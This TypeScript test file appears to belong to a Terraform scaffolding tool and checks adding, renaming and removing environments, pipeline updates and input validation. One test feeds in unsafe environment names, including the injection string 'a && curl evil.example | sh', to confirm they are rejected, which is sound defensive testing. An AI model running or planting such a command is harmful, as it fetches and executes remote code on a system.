import assert from 'node:assert/strict';
import { environmentQuestions } from '../../../../client/scaffold/questions/environmentQuestions';
import type { Platform } from '../../../../common/protocol';
import { githubPipelineText } from '../../../../server/scaffold/pipeline/githubPipeline';
import { effective } from '../../../support/scaffold/effective';
import { readSamplePlatform } from '../../../support/scaffold/platformFiles';
import { answerProblems, scaffolded } from '../../../support/scaffold/scaffolded';

const platforms = ['minimal', 'multi-cloud', 'released', 'three-environments'];

for (const name of platforms) {
  describe(`an added environment of ${name}`, () => {
    const before = readSamplePlatform(name);

    it('exists in every module, inherits everything, and changes no other environment', async () => {
      const known = await effective(before);
      const { texts } = await scaffolded(before, 'environment', { env: 'apps-dev' });
      const { 'apps-dev': added, ...others } = await effective(texts);
      assert.deepEqual(others, known);
      const base = Object.keys(known).includes('apps-prod') ? 'apps-prod' : 'apps';
      assert.deepEqual(Object.keys(added ?? {}), Object.keys(known[base] ?? {}));
      for (const [module, text] of Object.entries(known[base] ?? {}))
        if (!/terraform\.workspace|on_call/.test(JSON.stringify(before))) assert.equal(added?.[module], text, module);
    });

    it("can't be added twice", async () => {
      const { texts } = await scaffolded(before, 'environment', { env: 'apps-dev' });
      assert.match(
        (await answerProblems(texts, 'environment', { env: 'apps-dev' })).join('\n'),
        /^env: An environment apps-dev/,
      );
    });

    it('leaves no trace after its removal', async () => {
      const { texts } = await scaffolded(before, 'environment', { env: 'apps-dev' });
      const removed = await scaffolded(texts, 'removeEnvironment', {
        env: 'apps-dev',
        confirm: 'apps-dev',
        workspace_empty: true,
      });
      assert.deepEqual(removed.texts, before);
      assert.match(removed.followUp.join('\n'), /workspace select ops`, then `\w+ workspace delete apps-dev`/);
    });

    it('is removed only after its workspace was emptied', async () => {
      const { texts } = await scaffolded(before, 'environment', { env: 'apps-dev' });
      const removed = await scaffolded(texts, 'removeEnvironment', { env: 'apps-dev', confirm: 'apps-dev' });
      assert.deepEqual(removed.changed, []);
      assert.match(removed.followUp.join('\n'), /workspace select apps-dev[\s\S]*destroy -target=[\s\S]*state list/);
    });

    it('can be copied to a new name while the old one still exists', async () => {
      const known = await effective(before);
      const { texts, followUp } = await scaffolded(before, 'renameEnvironment', { env: 'apps', to: 'workloads' });
      const { workloads, ...others } = await effective(texts);
      assert.deepEqual(others, known);
      // Names of clusters contain the environment's name.
      const named = JSON.stringify(workloads).replaceAll('-workloads-', '-apps-');
      assert.deepEqual(JSON.parse(named), known['apps']);
      assert.match(followUp.join('\n'), /remove the environment apps/);
    });
  });
}

for (const name of ['minimal', 'released']) {
  describe(`converting ${name} to three environments`, () => {
    const before = readSamplePlatform(name);

    it('keeps the values of both environments, and copies those of the base to the third', async () => {
      const known = await effective(before);
      const { texts } = await scaffolded(before, 'threeEnvironments', {});
      const { 'apps-prod': added, ...others } = await effective(texts);
      assert.deepEqual(others, known);
      assert.deepEqual(added, known['apps']);
    });

    it('orders the keys, sets the base key, and updates the README', async () => {
      const { texts } = await scaffolded(before, 'threeEnvironments', {});
      const cluster = texts[Object.keys(texts).find(path => path.endsWith('_cluster.tf')) ?? ''] ?? '';
      assert.match(
        cluster,
        /configuration_base_key = "apps-prod"\n {2}configuration = \{\n {4}apps-prod = \{[\s\S]*\n {4}apps = \{\}\n+ {4}ops = \{/,
      );
      // Environments are separated where they were before.
      assert.equal(/\}\n\n {4}apps = \{\}\n\n/.test(cluster), name === 'minimal');
      if (name === 'minimal')
        assert.match(texts['README.md'] ?? '', /apps-prod, apps, ops[\s\S]*Base environment\s*\|\s*apps-prod/);
    });

    it('is not offered again', async () => {
      const { texts } = await scaffolded(before, 'threeEnvironments', {});
      assert.match(
        (await answerProblems(texts, 'threeEnvironments', {})).join('\n'),
        /^uri: This platform has 3 environments/,
      );
    });
  });
}

describe('converting modules that can be read only by their names', () => {
  const cluster = (ref: string) => ({
    'aks_cluster.tf': `module "aks" {
  source = "github.com/kbst/terraform-kubestack//azurerm/cluster?ref=${ref}"
  configuration = {
    apps = { resource_group = "acme", name_prefix = "kbst", base_domain = "example.com" }
    ops  = {}
  }
}
`,
  });

  it('says which clusters share a resource group, unless the environment has its own', async () => {
    const shared = /uses the resource group of (\S+) for aks\./;
    const { notes } = await scaffolded(cluster('v0.19.2-beta.0'), 'threeEnvironments', {});
    assert.equal(shared.exec(notes.join('\n'))?.[1], 'apps-prod');
    const added = await scaffolded(cluster('v0.19.2-beta.0'), 'environment', { env: 'edge' });
    assert.equal(shared.exec(added.notes.join('\n'))?.[1], 'apps');
    const overrides = { aks: { resource_group: 'acme-apps' } };
    const own = await scaffolded(cluster('v0.19.2-beta.0'), 'threeEnvironments', { overrides });
    assert.doesNotMatch(own.notes.join('\n'), shared);
  });

  it('says that modules of an unknown commit may lack the base key', async () => {
    const commit = 'da39a3ee5e6b4b0d3255bfef95601890afd80709';
    const note = /modules of commit da39a3ee5e are not installed.*configuration_base_key/;
    assert.match((await scaffolded(cluster(commit), 'threeEnvironments', {})).notes.join('\n'), note);
    const { notes } = await scaffolded(cluster('v0.19.2-beta.0'), 'threeEnvironments', {});
    assert.doesNotMatch(notes.join('\n'), note);
  });
});

describe('adding apps-prod to two environments', () => {
  const before = readSamplePlatform('minimal');

  it('in the most critical position is the same as converting to three environments', async () => {
    const converted = await scaffolded(before, 'threeEnvironments', {});
    const added = await scaffolded(before, 'environment', { env: 'apps-prod', position: 0 });
    assert.deepEqual(added, converted);
  });

  it('is offered in that position first', () => {
    const platform = { environments: ['ops', 'apps'], baseEnvironment: 'apps' } as unknown as Platform;
    const position = (env: string) => {
      const context = { platform, given: { env }, suggest: () => ({}) };
      return environmentQuestions(context).find(({ id }) => id === 'position');
    };
    assert.equal(position('apps-prod')?.initial, 0);
    const labels = (env: string) => {
      const input = position(env)?.input;
      return input?.kind === 'choice' ? input.choices.map(({ label, value }) => [label, value]) : [];
    };
    assert.deepEqual(labels('apps-prod'), [
      ['Before apps', 0],
      ['Before ops', 1],
    ]);
    assert.deepEqual(labels('edge'), [['Before ops', 1]]);
  });
});

describe('environments', () => {
  for (const name of ['three-environments', 'multi-cloud'])
    it(`are added to modules of ${name} that nothing calls any more`, async () => {
      const feature = name === 'multi-cloud' ? 'cert_manager' : 'metrics_server';
      const { texts: unbound } = await scaffolded(readSamplePlatform(name), 'removeService', { feature });
      const { texts, changed } = await scaffolded(unbound, 'environment', { env: 'edge' });
      assert.ok(changed.includes(`modules/${feature}/main.tf`));
      assert.match(texts[`modules/${feature}/main.tf`]!, /^ {4}edge = \{\}\n/m);
    });

  it('change the steps in the README that the extension generated', async () => {
    const { texts: before } = await scaffolded({}, 'platform', {
      layout: 'eks',
      region: 'eu-north-1',
      base_domain: 'infra.your-company.org',
      environments: ['apps', 'ops'],
    });
    const { texts } = await scaffolded(before, 'environment', { env: 'edge', position: 1 });
    assert.match(
      texts['README.md'] ?? '',
      /plans it for edge\.[^]*\n5\. Promote it to edge with [^]*\n6\. Promote it to apps with /,
    );
    const removal = { env: 'edge', confirm: 'edge', workspace_empty: true };
    const { texts: after } = await scaffolded(texts, 'removeEnvironment', removal);
    assert.equal(after['README.md'], before['README.md']);
  });

  it('keep the line endings of their files', async () => {
    const before = readSamplePlatform('minimal');
    const path = 'eks_web0_eu-central-1_cluster.tf';
    before[path] = before[path]!.replaceAll('\n', '\r\n');
    const { texts } = await scaffolded(before, 'environment', { env: 'edge' });
    assert.doesNotMatch(texts[path]!, /[^\r]\n/);
    const back = await scaffolded(texts, 'removeEnvironment', { env: 'edge', confirm: 'edge', workspace_empty: true });
    assert.deepEqual(back.texts, before);
  });

  it('apply an override to one cluster, also if one variable contains the configurations of all', async () => {
    const overrides = { eks_zero: { cluster_max_size: '5' } };
    const { texts } = await scaffolded(readSamplePlatform('legacy'), 'environment', { env: 'apps-dev', overrides });
    const [eks, gke] = (texts['config.auto.tfvars'] ?? '').split('gke_zero');
    assert.match(eks ?? '', /apps-dev = \{\n\s+cluster_max_size = "5"/);
    assert.match(gke ?? '', /apps-dev = \{\}/);
  });

  it('are added to the pipeline', async () => {
    const facts = { mainBranch: 'trunk', providers: ['aws' as const], program: 'terraform' as const };
    const path = '.github/workflows/main.yaml';
    const before = {
      ...readSamplePlatform('minimal'),
      [path]: githubPipelineText({ ...facts, environments: ['ops', 'apps'] }),
    };
    const { texts } = await scaffolded(before, 'threeEnvironments', {});
    assert.equal(texts[path], githubPipelineText({ ...facts, environments: ['ops', 'apps', 'apps-prod'] }));
  });

  it('do not change a pipeline of another origin, and say so', async () => {
    const before = { ...readSamplePlatform('minimal'), '.gitlab-ci.yml': 'plan:\n  script: terraform plan\n' };
    const { texts, notes } = await scaffolded(before, 'environment', { env: 'edge' });
    assert.equal(texts['.gitlab-ci.yml'], before['.gitlab-ci.yml']);
    assert.match(notes.join('\n'), /\.gitlab-ci\.yml differs from[\s\S]*ops, edge, apps/);
  });

  describe("in a team's own pipeline with a matrix of plans", () => {
    const path = '.github/workflows/main.yaml';
    const workflow = (environments: readonly string[], condition: string): string => `name: Platform
on:
  push:
    branches: ["**"]
    tags:
${environments
  .filter(name => name !== 'ops')
  .map(name => `      - "${name}-deploy-*"\n`)
  .join('')}jobs:
  deploy:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        environment: [${environments.join(', ')}]
    steps:
      - run: terraform init
      - run: terraform workspace select \${{ matrix.environment }}
      - run: terraform plan -out=tfplan
      - if: ${condition}
        run: terraform apply tfplan
`;
    const onMain = "(github.ref == 'refs/heads/main' && matrix.environment == 'ops')";
    const onTag = (name: string): string =>
      `(startsWith(github.ref, 'refs/tags/${name}-deploy-') && matrix.environment == '${name}')`;
    const block = (...alternatives: string[]): string => `|\n          ${alternatives.join(' ||\n          ')}`;
    const add = (text: string) =>
      scaffolded({ ...readSamplePlatform('minimal'), [path]: text }, 'environment', { env: 'edge' });

    for (const [notation, joined] of [
      ['one line', (...all: string[]) => all.join(' || ')],
      ['a block', block],
    ] as const)
      it(`are planned and applied like the others, with a condition in ${notation}`, async () => {
        const { texts, notes, followUp } = await add(workflow(['ops', 'apps'], joined(onMain, onTag('apps'))));
        const added = workflow(['ops', 'apps', 'edge'], joined(onMain, onTag('apps'), onTag('edge')));
        assert.equal(texts[path], added);
        assert.doesNotMatch(notes.join('\n'), /main\.yaml/);
        assert.match(followUp.join('\n'), /edge-deploy-.*The pipeline applies it to edge\./);
      });

    it('are only planned where the apply has another condition, and the result says so', async () => {
      const condition = `${onMain} || github.ref == 'refs/tags/production' && matrix.environment == 'apps'`;
      const { texts, notes, followUp } = await add(workflow(['ops', 'apps'], condition));
      assert.match(texts[path] ?? '', /environment: \[ops, apps, edge\]/);
      assert.match(notes.join('\n'), /In \.github\/workflows\/main\.yaml, only the list of environments was changed/);
      assert.doesNotMatch(notes.join('\n'), /was not changed/);
      assert.doesNotMatch(followUp.join('\n'), /applies it to edge/);
      assert.match(followUp.join('\n'), /No pipeline here applies a deploy tag to .*edge/);
    });
  });

  it('name the project that they inherit', async () => {
    const gke = readSamplePlatform('multi-cloud');
    const { notes } = await scaffolded(gke, 'environment', { env: 'edge' });
    assert.match(notes.join('\n'), /edge uses the project of apps-prod for gke_\S+\. .*set `project_id` in edge/);
    const [, label = ''] = /project of apps-prod for (\S+)\./.exec(notes.join('\n')) ?? [];
    const own = await scaffolded(gke, 'environment', {
      env: 'edge',
      overrides: { [label]: { project_id: 'acme-edge' } },
    });
    assert.doesNotMatch(own.notes.join('\n'), /uses the project of/);
  });

  for (const [kind, answers, problem] of [
    ['environment', {}, /^env: An answer is missing/],
    ['environment', { env: 'default' }, /^env: "default" is not valid/],
    ['environment', { env: 'Prod' }, /^env: "Prod"/],
    ['environment', { env: 'edge', position: 0 }, /^position: 0 is not possible.* use 1 for apps, edge, ops/],
    ['environment', { env: 'edge', position: 2 }, /^position: 2 is not possible.* use 1 for apps, edge, ops/],
    ['environment', { env: 'edge', position: 7 }, /^position: 7 is out of range/],
    [
      'environment',
      { env: 'edge', overrides: { nothing: {} } },
      /^overrides\.nothing: There is no module nothing with a configuration/,
    ],
    ['renameEnvironment', { env: 'apps', to: 'ops' }, /^to: An environment ops/],
    ['removeEnvironment', { env: 'apps', confirm: 'apps' }, /^env: apps is the base/],
    ['removeEnvironment', { env: 'ops', confirm: 'ops' }, /^env: ops is where changes are validated/],
    ['removeEnvironment', { env: 'nothing' }, /^env: "nothing" is not valid: choose apps or ops/],
    ['threeEnvironments', { base: 'apps' }, /^base: An environment apps/],
  ] as const) {
    it(`reject ${kind} with ${JSON.stringify(answers)}`, async () => {
      assert.match((await answerProblems(readSamplePlatform('minimal'), kind, answers)).join('\n'), problem);
    });
  }

  it('with unsafe names never become part of a command', async () => {
    const before = readSamplePlatform('minimal');
    for (const name of ['--help', 'a && curl evil.example | sh', '..', 'a`b']) {
      const texts = Object.fromEntries(
        Object.entries(before).map(([path, text]) => [path, text.replace(/\bops = \{/, `${JSON.stringify(name)} = {`)]),
      );
      assert.notDeepEqual(texts, before);
      for (const [kind, answers] of [
        ['removeEnvironment', { env: name, confirm: name }],
        ['environment', { env: 'apps-dev' }],
        ['renameEnvironment', { env: name, to: 'ops' }],
      ] as const)
        assert.match(
          (await answerProblems(texts, kind, answers)).join('\n'),
          /^uri: The environment ".*" can't be a Terraform workspace/,
        );
    }
  });

  it('must be confirmed by name before they are removed', async () => {
    const { texts } = await scaffolded(readSamplePlatform('minimal'), 'environment', { env: 'edge' });
    for (const confirm of [undefined, 'ops'])
      assert.match(
        (await answerProblems(texts, 'removeEnvironment', { env: 'edge', confirm, workspace_empty: true })).join('\n'),
        /^confirm: /,
      );
  });
});
